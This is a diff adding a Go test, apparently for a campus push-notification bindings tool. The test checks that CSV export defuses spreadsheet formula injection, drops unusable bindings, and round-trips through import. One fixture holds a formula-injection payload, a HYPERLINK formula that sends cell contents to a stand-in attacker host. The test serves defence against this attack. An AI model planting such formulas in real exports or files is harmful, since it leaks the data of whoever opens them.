@@ -119,3 +119,45 @@ func TestBindingsDeleteStopsPushesAtOnce(t *testing.T) {
 		t.Errorf("a push accepted after `bindings delete %s` ended %q (%s), want failed with \"no binding\"", user, tr.State, tr.Reason)
 	}
 }
+
+// TestExportIsWhatImportReads: export writes no cell a spreadsheet runs as a formula (a value
+// that begins as one gets a leading ', which import drops), leaves out, and says so, bindings
+// of user numbers no push can name (an earlier version stored whatever a sign-in said), and
+// importing an export changes nothing and refuses nothing.
+func TestExportIsWhatImportReads(t *testing.T) {
+	cfgPath, dir, st := bindingsEnv(t)
+	ctx := context.Background()
+	for _, b := range []struct{ user, openid string }{
+		{"zhang.san@campus.example", "oEmail0000000000000000000001"},
+		{`=HYPERLINK("http://evil.example/?x="&A1,"click")`, "oFormula00000000000000000002"},
+		{"2022000003", "oPlain00000000000000000000003"},
+		{"-2022000004", "-oDash000000000000000000004"},
+	} {
+		if _, err := st.Bind(ctx, b.user, b.openid); err != nil {
+			t.Fatal(err)
+		}
+	}
+	exp := mustRun(t, "-config", cfgPath, "bindings", "export")
+	for _, line := range strings.Split(strings.TrimSpace(exp.stdout), "\n") {
+		for _, cell := range strings.Split(line, ",") {
+			if c := strings.TrimPrefix(cell, `"`); c != "" && strings.ContainsRune("=+-@", rune(c[0])) {
+				t.Errorf("export writes a cell a spreadsheet runs as a formula: %s", line)
+			}
+		}
+	}
+	if !strings.Contains(exp.stdout, "'-2022000004,'-oDash000000000000000000004") || !strings.Contains(exp.stderr, "Left out 2 bindings") {
+		t.Fatalf("export:\n%s%s", exp.stdout, exp.stderr)
+	}
+	p := dir + "/export.csv"
+	if err := os.WriteFile(p, []byte(exp.stdout), 0o600); err != nil {
+		t.Fatal(err)
+	}
+	o := runAdmin(t, nil, "-config", cfgPath, "bindings", "import", "--json", p)
+	sum := decode[struct {
+		Unchanged, Inserted, Updated int
+		Rejected                     []any
+	}](t, o)
+	if o.code != admin.ExitOK || sum.Unchanged != 2 || sum.Inserted != 0 || sum.Updated != 0 || len(sum.Rejected) != 0 {
+		t.Fatalf("import of the export: exit %d %s %s", o.code, o.stdout, o.stderr)
+	}
+}
